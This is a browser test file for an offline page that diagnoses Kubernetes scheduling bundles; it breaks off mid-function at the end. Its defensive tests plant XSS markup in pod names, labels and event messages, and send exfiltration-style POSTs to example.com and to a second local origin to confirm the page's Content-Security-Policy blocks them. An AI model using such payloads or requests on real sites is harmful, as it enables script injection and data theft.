// Browser tests of the offline page: Debian's Chromium driven by playwright-core, against
// web-demo/dist served on 127.0.0.1 with the page's Content-Security-Policy. Every scenario of
// tests/scenarios is pasted and every expected target checked; no request may leave the local
// server; bad input must show an error; screenshots go to tests/artifacts/ to be looked at, and
// those of the layer picture to KL_SHOTS when it is set.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { readFileSync, readdirSync, existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join, extname, resolve } from 'node:path';
import { spawnSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { mkdtempSync } from 'node:fs';
import { chromium } from 'playwright-core';

const here = new URL('.', import.meta.url).pathname;
const dist = resolve(here, '../dist');
const artifacts = resolve(here, '../../tests/artifacts');
const scenariosDir = process.env.KL_SCENARIOS ?? resolve(here, '../../tests/scenarios');
const CSP = "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; connect-src 'self'; style-src 'self'; img-src 'self' data:";
const MIME = { '.html': 'text/html; charset=utf-8', '.mjs': 'text/javascript', '.js': 'text/javascript', '.css': 'text/css', '.wasm': 'application/wasm', '.json': 'application/json', '.yaml': 'text/yaml' };

const scenarios = readdirSync(scenariosDir)
  .filter((d) => existsSync(join(scenariosDir, d, 'expected.json')))
  .sort()
  .map((d) => {
    const dir = join(scenariosDir, d);
    const bundlePath = ['bundle.json', 'bundle.yaml'].map((f) => join(dir, f)).find(existsSync);
    return { name: d, bundle: readFileSync(bundlePath, 'utf8'), expected: JSON.parse(readFileSync(join(dir, 'expected.json'), 'utf8')) };
  });

let server, origin, context, page;
const requests = [];
const consoleErrors = [];

// KL_PAGES=1: the page as GitHub Pages serves it (pages.yml runs the tests so before it
// publishes): under /<repo>/, with no Content-Security-Policy header, so the policy in the
// page's own <meta> tag must hold on its own.
const pages = process.env.KL_PAGES === '1';
const base = pages ? '/kubectl-layer/' : '/';
const policyHeader = pages ? {} : { 'Content-Security-Policy': CSP };
let pageUrl;

before(async () => {
  server = http.createServer((req, res) => {
    const path = decodeURIComponent(new URL(req.url, 'http://x').pathname);
    const file = path.startsWith(base) ? resolve(dist, path === base ? 'index.html' : `./${path.slice(base.length)}`) : '';
    if (!file.startsWith(dist) || !existsSync(file)) {
      res.writeHead(404, policyHeader);
      return res.end('not found');
    }
    res.writeHead(200, { 'Content-Type': MIME[extname(file)] ?? 'application/octet-stream', ...policyHeader, 'Cache-Control': 'no-store' });
    res.end(readFileSync(file));
  });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  origin = `http://127.0.0.1:${server.address().port}`;
  pageUrl = `${origin}${base}`;
  context = await chromium.launchPersistentContext(mkdtempSync(join(tmpdir(), 'kl-chromium-')), {
    executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
    headless: true,
    args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
    viewport: { width: 1280, height: 900 },
  });
  context.on('request', (r) => requests.push(r.url()));
  page = context.pages()[0] ?? (await context.newPage());
  page.on('console', (m) => { if (m.type() === 'error') consoleErrors.push(m.text()); });
  page.on('pageerror', (e) => consoleErrors.push(String(e)));
  await page.goto(pageUrl);
  await page.waitForSelector('body[data-ready="true"]', { state: 'attached' });
});

after(async () => {
  await context?.close();
  server?.close();
});

async function paste(text) {
  // What a paste leaves behind: the new value and an `input` event. (Playwright's fill() goes
  // through editing commands, which take minutes on a bundle of several hundred KB.)
  await page.evaluate((t) => {
    document.body.dataset.ready = 'false';
    const area = document.querySelector('[data-testid="bundle-input"]');
    area.value = t;
    area.dispatchEvent(new Event('input', { bubbles: true }));
  }, text);
  await page.waitForSelector('body[data-ready="true"]', { state: 'attached', timeout: 60_000 });
}

/** Start from an empty page state (no pasted text, no dropped files). */
async function reset() {
  await page.evaluate(() => { document.body.dataset.ready = 'false'; });
  await page.click('#clear');
  await page.waitForSelector('body[data-ready="true"]', { state: 'attached' });
}

async function choose(target) {
  await page.selectOption('[data-testid="target-select"]', target);
  await page.waitForSelector('body[data-ready="true"]', { state: 'attached', timeout: 60_000 });
}

async function verdict() {
  return page.$eval('[data-testid="verdict"]', (v) => ({ layer: v.dataset.layer, state: v.dataset.state, target: v.dataset.target, text: v.textContent }));
}

/** The picture above the table: each box in its layer's state, the mark and the arrow as expected. */
async function checkPicture(what, e) {
  const pic = await page.$eval('[data-testid="picture"]', (svg) => ({
    visible: !svg.closest('figure').hidden && svg.getBoundingClientRect().height > 0,
    boxes: Object.fromEntries([...svg.querySelectorAll('.layer-box')].map((g) => [g.dataset.layer, { state: g.dataset.state, blocking: g.dataset.blocking, text: g.textContent }])),
    arrows: [...svg.querySelectorAll('.misalignment-arrow')].map((a) => ({ saidYes: a.dataset.saidYes, saidNo: a.dataset.saidNo })),
  }));
  assert.ok(pic.visible, `${what}: the picture is shown`);
  assert.deepEqual(Object.fromEntries(Object.entries(pic.boxes).map(([l, b]) => [l, b.state])), e.layers, `${what}: picture states`);
  const blocking = e.verdict.state === 'blocked' ? e.verdict.layer : null;
  for (const [layer, b] of Object.entries(pic.boxes)) {
    assert.equal(b.blocking, String(layer === blocking), `${what}: blocking mark on ${layer}`);
    assert.equal(b.text.includes('blocks here'), layer === blocking, `${what}: ${b.text}`);
  }
  assert.deepEqual(pic.arrows, e.misalignment ? [{ saidYes: e.misalignment.saidYes, saidNo: e.misalignment.saidNo }] : [], `${what}: misalignment arrow`);
}

test('the page loads the package and lists the rules', async () => {
  const count = await page.$$eval('#rules details', (d) => d.length);
  assert.ok(count >= 20, `rules listed: ${count}`);
  assert.match(await page.textContent('#privacy'), /Nothing you paste or drop is stored or sent/);
});

for (const s of scenarios) {
  test(`scenario ${s.name}: every target's verdict names the expected layer`, async () => {
    await paste(s.bundle);
    const options = await page.$$eval('[data-testid="target-select"] option', (o) => o.map((x) => x.value));
    for (const e of s.expected) {
      assert.ok(options.includes(e.target), `${e.target} is offered (${options.slice(0, 5).join(', ')}…)`);
      await choose(e.target);
      const v = await verdict();
      assert.equal(v.target, e.target);
      assert.equal(v.state, e.verdict.state, `${s.name} ${e.target} state`);
      assert.equal(v.layer, e.verdict.layer ?? '', `${s.name} ${e.target} layer`);
      assert.ok(v.text.includes(e.verdict.layer ?? 'ok'), `verdict text names the layer: ${v.text}`);
      const headline = await page.textContent('[data-testid="headline"]');
      assert.ok(headline.startsWith(e.headline), `headline ${headline}`);
      const states = await page.$$eval('#layer-rows tr', (rows) => Object.fromEntries(rows.map((r) => [r.dataset.layer, r.dataset.state])));
      assert.deepEqual(states, e.layers);
      await checkPicture(`${s.name} ${e.target}`, e);
      if (e.timeline?.length) {
        // The expected moments, in order, among the rows under the layers.
        const rows = await page.$$eval('#timeline-rows tr', (rs) => rs.map((r) => [...r.cells].map((c) => c.textContent)));
        const lines = rows.map(([time, layer, object, what]) => `${time} ${layer} ${object}: ${what}`);
        let at = 0;
        for (const want of e.timeline) {
          const i = lines.findIndex((l, j) => j >= at && l.startsWith(want));
          assert.ok(i >= 0, `${s.name} ${e.target}: timeline row ${want} in ${lines.join('\n')}`);
          at = i + 1;
        }
      }
    }
  });
}

// "Would it fit?": each case of tests/fits, its cluster pasted above and its manifest below.
const fitsDir = resolve(scenariosDir, '..', 'fits');
const fitCases = readdirSync(fitsDir)
  .filter((d) => existsSync(join(fitsDir, d, 'manifest.yaml')))
  .sort()
  .map((d) => {
    const dir = join(fitsDir, d);
    const cluster = existsSync(join(dir, 'cluster.yaml')) ? join(dir, 'cluster.yaml') : join(fitsDir, readFileSync(join(dir, 'cluster.ref'), 'utf8').trim());
    return { name: d, cluster: readFileSync(cluster, 'utf8'), manifest: readFileSync(join(dir, 'manifest.yaml'), 'utf8'), expected: JSON.parse(readFileSync(join(dir, 'expected.json'), 'utf8')) };
  });

async function fitManifest(text) {
  await page.evaluate((t) => {
    document.body.dataset.ready = 'false';
    document.querySelector('[data-testid="manifest-input"]').value = t;
    document.querySelector('[data-testid="fit"]').click();
  }, text);
  await page.waitForSelector('body[data-ready="true"]', { state: 'attached', timeout: 60_000 });
}

for (const c of fitCases) {
  test(`would it fit: ${c.name} gives each piece of work the expected verdict and outlook`, async () => {
    await paste(c.cluster);
    await fitManifest(c.manifest);
    assert.equal(await page.$eval('[data-testid="fit-error"]', (e) => e.hidden), true, await page.textContent('[data-testid="fit-error"]'));
    const options = await page.$$eval('[data-testid="target-select"] option', (o) => o.map((x) => x.value));
    assert.deepEqual(options, c.expected.map((_, i) => `fit:${i}`));
    for (const [i, e] of c.expected.entries()) {
      await choose(`fit:${i}`);
      const v = await page.$eval('[data-testid="verdict"]', (x) => ({ state: x.dataset.state, layer: x.dataset.layer, outlook: x.dataset.outlook, text: x.textContent }));
      assert.equal(v.state, e.verdict.state, `${c.name} ${e.target}`);
      assert.equal(v.layer, e.verdict.layer ?? '', `${c.name} ${e.target}`);
      assert.equal(v.outlook, e.verdict.outlook ?? '', `${c.name} ${e.target}`);
      assert.ok(v.text.includes('not submitted'), v.text);
      const headline = await page.textContent('[data-testid="headline"]');
      assert.ok(headline.startsWith(e.headline), headline);
      const outlook = await page.$eval('[data-testid="outlook"]', (x) => ({ hidden: x.hidden, text: x.textContent }));
      assert.equal(outlook.hidden, !e.verdict.outlook, `${c.name}: the outlook is said when blocked`);
      if (e.verdict.outlook) assert.match(outlook.text, /would/);
      const states = await page.$$eval('#layer-rows tr', (rows) => Object.fromEntries(rows.map((r) => [r.dataset.layer, r.dataset.state])));
      assert.deepEqual(states, e.layers);
    }
  });
}

test('would it fit: what it needs first, and a manifest without work, are said; a new bundle brings its own work back', async () => {
  await reset();
  await fitManifest(fitCases[0].manifest);
  assert.match(await page.textContent('[data-testid="fit-error"]'), /paste the cluster's bundle above first/);
  await paste(fitCases[0].cluster);
  await fitManifest('apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\n');
  assert.match(await page.textContent('[data-testid="fit-error"]'), /no Pod, Job, JobSet, LeaderWorkerSet, Deployment or StatefulSet to fit/);
  await fitManifest(fitCases[0].manifest);
  assert.equal(await page.$eval('[data-testid="fit-error"]', (e) => e.hidden), true);
  await paste(scenarios[0].bundle);
  const options = await page.$$eval('[data-testid="target-select"] option', (o) => o.map((x) => x.value));
  assert.ok(!options.some((o) => o.startsWith('fit:')), 'the bundle\'s own targets again');
});

test('the most likely target is picked by itself', async () => {
  const s = scenarios.find((x) => x.name === 'kueue-admitted-no-gpu-room') ?? scenarios[0];
  await page.click('#clear');
  await page.waitForSelector('body[data-ready="true"]', { state: 'attached' });
  await paste(s.bundle);
  const v = await verdict();
  assert.equal(v.state, 'blocked');
  assert.ok(v.target, 'a target is chosen without asking');
});

test('a group resting on a ClusterQueue says where its work stands there', async () => {
  const s = scenarios.find((x) => x.name === 'kueue-waiting-for-quota');
  await reset();
  await paste(s.bundle);
  const queue = await page.$eval('[data-testid="group-queue"]', (e) => e.textContent);
  assert.match(queue, /^queue: places \d+–\d+ of \d+ in \S+ \(bundle\)/, queue);
});

test('the work not running is shown grouped by cause; a group opens to its work, which diagnoses', async () => {
  const s = scenarios.find((x) => x.name === 'kueue-admitted-no-gpu-room') ?? scenarios[0];
  await reset();
  await paste(s.bundle);
  const groups = await page.$$eval('[data-testid="group"]', (gs) => gs.map((g) => ({ count: Number(g.dataset.count), open: g.open, text: g.querySelector('summary').textContent })));
  assert.ok(groups.length > 0 && !(await page.$eval('[data-testid="groups"]', (e) => e.hidden)), 'groups are shown');
  assert.ok(groups.every((g) => g.count > 0 && !g.open && g.text.includes(' × ')), JSON.stringify(groups));
  await page.click('[data-testid="group"] summary');
  const item = await page.$('[data-testid="group"][open] [data-testid="group-item"]');
  assert.ok(item && await item.isVisible(), 'an opened group shows its work');
  const name = await item.textContent();
  await page.evaluate(() => { document.body.dataset.ready = 'false'; });
  await item.click();
  await page.waitForSelector('body[data-ready="true"]', { state: 'attached', timeout: 60_000 });
  const v = await verdict();
  assert.ok(v.target.endsWith(`/${name.split('/').pop()}`), `${v.target} is the item ${name}`);
});

test('evidence expands to the JSON it came from; commands and Markdown can be copied', async () => {
  const s = scenarios.find((x) => x.name === 'kueue-admitted-no-gpu-room') ?? scenarios[0];
  await paste(s.bundle);
  await choose(s.expected[0].target);
  const details = page.locator('.evidence details').first();
  await details.locator('summary').click();
  // The source is read from the bundle when the details open (the toggle event).
  await page.waitForFunction(() => document.querySelector('.evidence details[open] pre')?.textContent.length > 0);
  const json = JSON.parse(await details.locator('pre').textContent());
  assert.ok(json.kind && json.metadata?.name, 'the evidence source object is shown');
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
  await page.click('#copy-markdown');
  const md = await page.evaluate(() => navigator.clipboard.readText());
  assert.match(md, /^### /);
  // Quota larger than the nodes is this cluster's own configuration: fixed here, not reported.
  assert.match(md, /Where to fix: your cluster/);
  await page.locator('#next button').first().click();
  const cmd = await page.evaluate(() => navigator.clipboard.readText());
  assert.match(cmd, /^kubectl /);
});

test('an example loads from the built-in list', async () => {
  const value = await page.$eval('#example option:nth-child(2)', (o) => o.value);
  await page.selectOption('#example', value);
  await page.evaluate(() => { document.body.dataset.ready = 'false'; });
  await page.click('#load-example');
  await page.waitForSelector('body[data-ready="true"]', { state: 'attached' });
  assert.ok((await verdict()).state, 'an example gives a verdict');
});

test('bad input shows what and where, never a blank page', async () => {
  await paste('{"apiVersion": "v1", "kind": "List",\n "items": [ }');
  assert.equal(await page.isVisible('[data-testid="error"]'), true);
  assert.match(await page.textContent('[data-testid="error"]'), /line 2/);
  assert.equal((await verdict()).state, '');
  await paste('NAME        READY   STATUS\ntrainer-0   0/1     Pending');
  assert.match(await page.textContent('[data-testid="error"]'), /table output/);
});

// `kubectl cluster-info dump --namespaces ml` as the lab's kubectl printed it (the CLI's
// fixture): pasted as it is, its Lists read, the pod's log set aside and counted under "What
// the input could not show", the same verdict as the CLI's; with the line kubectl before 1.19
// printed last, the same again.
const dumpFixture = resolve(here, '../../kubectl-plugin/tests/cli/fixtures/cluster-info-dump.txt');
test('a printed kubectl cluster-info dump is read, its container logs set aside and counted', async () => {
  const dump = readFileSync(dumpFixture, 'utf8');
  for (const text of [dump, `${dump}Cluster info dumped to standard output\n`]) {
    await reset();
    await paste(text);
    assert.equal(await page.isVisible('[data-testid="error"]'), false, await page.textContent('[data-testid="error"]'));
    await choose('Pod/ml/too-big-wgt59');
    const v = await verdict();
    assert.equal(v.state, 'blocked');
    assert.equal(v.layer, 'placement');
    assert.equal(await page.isVisible('#notes-section'), true);
    assert.match(await page.textContent('#notes'), /1 container log section set aside/);
  }
});

test('several dropped files are read as one bundle, JSON and YAML mixed', async () => {
  const s = scenarios.find((x) => x.name === 'lws-leader-only');
  const y = scenarios.find((x) => x.name === 'mixed-yaml-stream');
  await page.click('#clear');
  await page.waitForSelector('body[data-ready="true"]', { state: 'attached' });
  const items = JSON.parse(s.bundle).items;
  const pods = JSON.stringify({ apiVersion: 'v1', kind: 'List', items: items.filter((o) => o.kind === 'Pod') });
  await page.evaluate(() => { document.body.dataset.ready = 'false'; });
  await page.setInputFiles('#files', [
    { name: 'pods.json', mimeType: 'application/json', buffer: Buffer.from(pods) },
    { name: 'rest.yaml', mimeType: 'text/yaml', buffer: Buffer.from(y.bundle) },
  ]);
  await page.waitForSelector('body[data-ready="true"]', { state: 'attached' });
  assert.equal(await page.$$eval('#file-list li', (l) => l.length), 2);
  await choose(s.expected[0].target);
  assert.equal((await verdict()).layer, s.expected[0].verdict.layer);
});

test('values from the bundle are shown, never run', async () => {
  await reset();
  const evil = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>';
  const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'x', namespace: 'ml', labels: { a: evil } },
    status: { phase: 'Pending', conditions: [{ type: 'PodScheduled', status: 'False', reason: 'Unschedulable', message: evil }] } };
  await paste(JSON.stringify(pod));
  assert.equal(await page.evaluate(() => window.__pwned), undefined);
  assert.ok((await page.textContent('[data-testid="headline"]')).includes('<img'), 'shown as text');
  assert.equal(await page.$$eval('#result img, #result script', (x) => x.length), 0);
});

test('the Content-Security-Policy blocks other hosts, and nothing is stored', async () => {
  const blocked = await page.evaluate(async () => {
    try {
      await fetch('https://example.com/collect', { method: 'POST', body: 'x' });
      return false;
    } catch {
      return true;
    }
  });
  assert.equal(blocked, true, 'fetch to another host is refused');
  const stored = await page.evaluate(async () => ({
    local: localStorage.length, session: sessionStorage.length, cookie: document.cookie,
    idb: (await indexedDB.databases()).length,
  }));
  assert.deepEqual(stored, { local: 0, session: 0, cookie: '', idb: 0 });
  const outside = requests.filter((u) => !u.startsWith(origin) && !u.startsWith('data:'));
  assert.deepEqual(outside, [], 'no request left 127.0.0.1');
});

test('the Content-Security-Policy itself refuses another origin, even one on this machine', async () => {
  // A closed network makes any fetch to the internet fail; a second local origin would answer,
  // so only the policy can stop a request to it. Nothing may reach it, and the browser must
  // report each refusal as a policy violation.
  const hits = [];
  const other = http.createServer((req, res) => { hits.push(req.url); res.writeHead(200, { 'Access-Control-Allow-Origin': '*' }); res.end('x'); });
  await new Promise((r) => other.listen(0, '127.0.0.1', r));
  const otherOrigin = `http://127.0.0.1:${other.address().port}`;
  try {
    const result = await page.evaluate(async (o) => {
      const violations = [];
      const listener = (e) => violations.push(e.effectiveDirective);
      document.addEventListener('securitypolicyviolation', listener);
      let fetched = 'refused';
      try { await fetch(`${o}/collect`, { method: 'POST', body: 'pasted text' }); fetched = 'sent'; } catch { /* refused */ }
      const img = document.createElement('img');
      img.src = `${o}/pixel.png`;
      document.body.append(img);
      const inline = document.createElement('script');
      inline.textContent = 'window.__inlineRan = true';
      document.body.append(inline);
      await new Promise((r) => setTimeout(r, 500));
      img.remove();
      inline.remove();
      document.removeEventListener('securitypolicyviolation', listener);
      return { fetched, violations: [...new Set(violations)].sort(), inlineRan: window.__inlineRan === true };
    }, otherOrigin);
    assert.equal(result.fetched, 'refused', 'fetch to another origin is refused');
    assert.equal(result.inlineRan, false, 'an inline script does not run');
    assert.deepEqual(result.violations, ['connect-src', 'img-src', 'script-src-elem']);
    assert.deepEqual(hits, [], 'the other origin received nothing');
  } finally {
    other.close();
  }
});

test('markup planted in names and event messages is shown as text and never runs', async () => {
  await reset();
  const evil = (n) => `<img src=x onerror="window.__pwned='${n}'"><script>window.__pwned='${n}-script'</script>`;
  const podName = `trainer-${evil('pod-name')}`;
  const nodeName = `gpu-${evil('node-name')}`;
  const items = [
    { apiVersion: 'v1', kind: 'Node', metadata: { name: nodeName }, status: { allocatable: { 'nvidia.com/gpu': '1' }, conditions: [{ type: 'Ready', status: 'True' }] } },
    { apiVersion: 'v1', kind: 'Pod', metadata: { name: podName, namespace: 'ml', uid: 'u-evil' },
      spec: { containers: [{ name: evil('container'), image: evil('image'), resources: { limits: { 'nvidia.com/gpu': '4' } } }] },
      status: { phase: 'Pending', conditions: [{ type: 'PodScheduled', status: 'False', reason: 'Unschedulable',
        message: `0/1 nodes are available: 1 Insufficient nvidia.com/gpu. ${evil('condition-message')}` }] } },
    { apiVersion: 'v1', kind: 'Event', metadata: { name: 'e1', namespace: 'ml' }, type: 'Warning', reason: 'FailedScheduling',
      involvedObject: { kind: 'Pod', namespace: 'ml', name: podName, uid: 'u-evil' }, message: evil('event-message'),
      lastTimestamp: '2026-10-14T09:41:07Z' },
  ];
  const before = await page.evaluate(() => ({ img: document.querySelectorAll('img').length, script: document.querySelectorAll('script').length }));
  await page.evaluate(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.effectiveDirective));
  });
  await paste(JSON.stringify({ apiVersion: 'v1', kind: 'List', items }));
  // Open every folded part (evidence loads its object's JSON when opened), so everything from
  // the input is rendered.
  const opened = await page.evaluate(() => {
    const all = [...document.querySelectorAll('#result details')];
    for (const d of all) d.open = true;
    return all.length;
  });
  assert.ok(opened > 0, 'the diagnosis has evidence to open');
  await page.waitForTimeout(500); // an injected <img onerror> would fire once its load fails
  assert.equal(await page.evaluate(() => window.__pwned), undefined, 'no planted handler or script ran');
  assert.deepEqual(await page.evaluate(() => window.__violations), [], 'nothing even tried to run');
  const after = await page.evaluate(() => ({ img: document.querySelectorAll('img').length, script: document.querySelectorAll('script').length }));
  assert.deepEqual(after, before, 'no element was made from the input');
  const options = await page.$$eval('[data-testid="target-select"] option', (o) => o.map((x) => x.textContent).join('\n'));
  assert.ok(options.includes('<img src=x'), `the name is offered as text: ${options.slice(0, 200)}`);
  const shown = await page.textContent('#result');
  assert.ok(shown.includes("onerror=\"window.__pwned='"), 'the planted markup is shown as text');
});

test('screenshots of a blocked diagnosis on a desktop and a phone', async () => {
  await reset();
  mkdirSync(artifacts, { recursive: true });
  const s = scenarios.find((x) => x.name === 'kueue-admitted-no-gpu-room') ?? scenarios[0];
  await paste(s.bundle);
  await choose(s.expected[0].target);
  await page.setViewportSize({ width: 1280, height: 900 });
  await page.screenshot({ path: join(artifacts, 'web-desktop.png'), fullPage: true });
  await page.setViewportSize({ width: 390, height: 844 });
  await page.screenshot({ path: join(artifacts, 'web-mobile.png'), fullPage: true });
  await page.screenshot({ path: join(artifacts, 'web-mobile-top.png') });
  const overflow = await page.evaluate(() => {
    const wide = [...document.querySelectorAll('body *')].filter((e) => e.getBoundingClientRect().right > window.innerWidth + 1).map((e) => `${e.tagName}#${e.id}.${e.className}`);
    return { px: document.documentElement.scrollWidth - window.innerWidth, wide: wide.slice(0, 5) };
  });
  assert.ok(overflow.px <= 1, `no horizontal scrolling on a phone (${overflow.px}px: ${overflow.wide.join(', ')})`);
  await page.emulateMedia({ colorScheme: 'dark' });
  await page.screenshot({ path: join(artifacts, 'web-mobile-dark.png') });
  await page.emulateMedia({ colorScheme: 'light' });
  await page.setViewportSize({ width: 1280, height: 900 });
});

test('keyboard: the controls are reachable with Tab', async () => {
  await page.focus('[data-testid="bundle-input"]');
  const seen = [];
  for (let i = 0; i < 12; i++) {
    await page.keyboard.press('Tab');
    seen.push(await page.evaluate(() => document.activeElement?.id || document.activeElement?.dataset?.testid || document.activeElement?.tagName));
  }
  for (const id of ['example', 'load-example', 'target', 'diagnose']) assert.ok(seen.includes(id), `${id} reachable (${seen.join(', ')})`);
});

test('a change of input is read once: targets, diagnoses, evidence and Markdown reuse it', async () => {
  await reset();
  const s = scenarios.find((x) => x.name === 'kueue-admitted-no-gpu-room') ?? scenarios[0];
  const reads = () => page.evaluate(() => Number(document.body.dataset.reads ?? 0));
  const before = await reads();
  await paste(s.bundle);
  assert.equal(await reads(), before + 1, 'the paste is read once, for the target list and the first diagnosis');
  const options = await page.$$eval('[data-testid="target-select"] option', (o) => o.map((x) => x.value));
  for (const t of options.slice(0, 3)) await choose(t);
  await choose(s.expected[0].target);
  await page.locator('.evidence details summary').first().click();
  await page.waitForFunction(() => document.querySelector('.evidence details[open] pre')?.textContent.length > 0);
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
  await page.click('#copy-markdown');
  const md = await page.evaluate(() => navigator.clipboard.readText());
  assert.match(md, /^### /);
  await page.click('#diagnose');
  await page.waitForSelector('body[data-ready="true"]', { state: 'attached' });
  assert.equal(await reads(), before + 1, 'choosing targets, opening evidence, copying Markdown and Diagnose read nothing again');
  await paste(`${s.bundle}\n`);
  assert.equal(await reads(), before + 2, 'a changed input is read again');
});

// From paste to verdict on a 20 MB bundle from `gen-cluster`, against the release CLI's `why`
// on the same file and target, in this run. A ratio to record (docs/benchmarks.md with
// `cargo xtask web-test --record`), never a limit: the machine is shared.
test('time from paste to verdict for a 20 MB bundle, against the CLI', { skip: !process.env.KL_BIG && 'KL_BIG (a gen-cluster bundle) is not set' }, async () => {
  const big = readFileSync(process.env.KL_BIG, 'utf8');
  const cli = process.env.KL_CLI;
  assert.ok(cli, 'KL_CLI (the release kubectl-layer) is set with KL_BIG');
  const rounds = 3;
  const page_ms = [];
  const list_ms = [];
  let shown;
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
  for (let i = 0; i < rounds; i++) {
    await reset();
    // On the clipboard first, then a real Ctrl+V in the text box: the paste the page sees is
    // the browser's own, with the text in its clipboardData.
    await page.evaluate((text) => navigator.clipboard.writeText(text), big);
    await page.evaluate(() => {
      const verdict = document.querySelector('[data-testid="verdict"]');
      window.__timing = new Promise((resolve) => {
        let t0;
        let shownAt;
        document.addEventListener('paste', () => { t0 = performance.now(); }, { capture: true, once: true });
        let listedAt;
        const finish = () => {
          if (!shownAt || !listedAt) return;
          seen.disconnect();
          const v = verdict.dataset;
          resolve({ ms: shownAt - t0, listMs: listedAt - t0, target: v.target, state: v.state, layer: v.layer });
        };
        const seen = new MutationObserver(() => {
          // The verdict counts once the browser has laid it out for the next frame.
          if (shownAt === undefined && t0 !== undefined && verdict.dataset.state) {
            shownAt = null;
            requestAnimationFrame(() => { shownAt = performance.now(); finish(); });
          }
          if (shownAt !== undefined && !listedAt && document.body.dataset.ready === 'true') listedAt = performance.now();
          finish();
        });
        seen.observe(document.body, { attributes: true, subtree: true, attributeFilter: ['data-ready', 'data-state'] });
      });
    });
    await page.focus('[data-testid="bundle-input"]');
    await page.keyboard.press('Control+V');
    const r = await page.evaluate(() => window.__timing);
    assert.equal(await page.inputValue('[data-testid="bundle-input"]'), '', 'a 20 MB paste is kept out of the text box');
    assert.match(await page.textContent('#file-list'), /pasted text/);
    page_ms.push(r.ms);
    list_ms.push(r.listMs);
    shown = r;
  }
  assert.ok(shown.target, 'a verdict is shown for the most likely target');
  // The browser's own part of a paste, alone: the same Ctrl+V, with a listener ahead of the
  // page's that reads the text as the page does, times only that, and keeps the event from
  // the page. Reading a 20 MB clipboard is work no page can skip, and the CLI has no
  // counterpart to it beyond reading the file, which its time includes.
  const clip_ms = [];
  for (let i = 0; i < rounds; i++) {
    await reset();
    await page.evaluate(() => {
      window.__clip = new Promise((resolve) => {
        document.addEventListener('paste', (e) => {
          const t0 = performance.now();
          const text = e.clipboardData.getData('text/plain');
          const ms = performance.now() - t0;
          e.stopImmediatePropagation();
          e.preventDefault();
          resolve({ ms, length: text.length });
        }, { capture: true, once: true });
      });
    });
    await page.focus('[data-testid="bundle-input"]');
    await page.keyboard.press('Control+V');
    const c = await page.evaluate(() => window.__clip);
    assert.equal(c.length, big.length, 'the clipboard holds the whole bundle');
    clip_ms.push(c.ms);
  }
  const cli_ms = [];
  let fromCli;
  for (let i = 0; i < rounds; i++) {
    const t0 = performance.now();
    const run = spawnSync(cli, ['why', shown.target, '-f', process.env.KL_BIG, '-o', 'json'], { encoding: 'utf8', maxBuffer: 64 << 20 });
    cli_ms.push(performance.now() - t0);
    assert.ok(run.status === 0 || run.status === 1, run.stderr);
    fromCli = JSON.parse(run.stdout);
  }
  assert.equal(shown.state, fromCli.verdict.state, 'the page and the CLI give the same verdict');
  assert.equal(shown.layer, fromCli.verdict.layer ?? '');
  const pageBest = Math.min(...page_ms);
  const cliBest = Math.min(...cli_ms);
  const clipBest = Math.min(...clip_ms);
  const result = {
    bytes: Buffer.byteLength(big), objects: JSON.parse(big).items.length, target: shown.target,
    pageMs: Math.round(pageBest), cliMs: Math.round(cliBest), ratio: Number((pageBest / cliBest).toFixed(2)),
    clipboardMs: Math.round(clipBest), clipboardRatio: Number((clipBest / cliBest).toFixed(2)),
    ownMs: Math.round(pageBest - clipBest), ownRatio: Number(((pageBest - clipBest) / cliBest).toFixed(2)),
    listMs: Math.round(Math.min(...list_ms)), rounds, pageRuns: page_ms.map(Math.round), cliRuns: cli_ms.map(Math.round),
    clipboardRuns: clip_ms.map(Math.round),
  };
  mkdirSync(artifacts, { recursive: true });
  writeFileSync(join(artifacts, 'web-timing.json'), `${JSON.stringify(result, null, 2)}\n`);
  console.log(`# paste to verdict, ${(result.bytes / 1048576).toFixed(1)} MB: page ${result.pageMs} ms (every target listed: ${result.listMs} ms), CLI why ${result.cliMs} ms, ratio ${result.ratio}x; the browser's clipboard read alone ${result.clipboardMs} ms (${result.clipboardRatio}x), the page's own work ${result.ownMs} ms (${result.ownRatio}x) (best of ${rounds})`);
  if (process.env.KL_RECORD) recordTiming(process.env.KL_RECORD, result);
});

/** Write the figures into docs/benchmarks.md, between its web-page markers (added if absent). */
function recordTiming(file, r) {
  const begin = '<!-- web-page: written by `cargo xtask web-test --record`; `cargo xtask bench` keeps it -->';
  const end = '<!-- /web-page -->';
  const section = `${begin}
## Web page against the CLI

From paste to verdict in the page (headless Chromium, the npm package's browser build) against \`kubectl-layer why\` (release build, the whole process) on the same bundle and target, measured side by side in one run of \`cargo xtask web-test --record\`, best of ${r.rounds} each. Bundle: \`gen-cluster --nodes 350 --pods 7000 --seed 1\`, ${(r.bytes / 1048576).toFixed(1)} MB, ${r.objects} objects; target \`${r.target}\` (the page's own first pick). The page's time runs from the browser's paste event (a real Ctrl+V of the text) to the frame after the verdict is shown: it reads the text once, finds the most likely target among all of them, diagnoses it and renders the verdict; the full target list is built after that (${r.listMs} ms from the paste).

| work | time | ÷ CLI \`why\` |
|---|---:|---:|
| CLI \`why\` (read the file, parse, index, diagnose, print) | ${r.cliMs} ms | 1.00× |
| page, paste to verdict | ${r.pageMs} ms | **${r.ratio.toFixed(2)}×** |
| of which the browser's: reading the clipboard (\`getData\` of the paste, timed alone, best of ${r.rounds}) | ${r.clipboardMs} ms | ${r.clipboardRatio.toFixed(2)}× |
| of which the page's own: the rest (UTF-8 for the module, read and index, diagnose, show) | ${r.ownMs} ms | ${r.ownRatio.toFixed(2)}× |

The browser's clipboard read alone takes about as long as the CLI's whole run, so issue 16's "paste to verdict at most 2× the CLI" leaves the page less than the CLI's own time for everything it does; the page's own work is the figure it controls.

${end}`;
  const old = existsSync(file) ? readFileSync(file, 'utf8') : '';
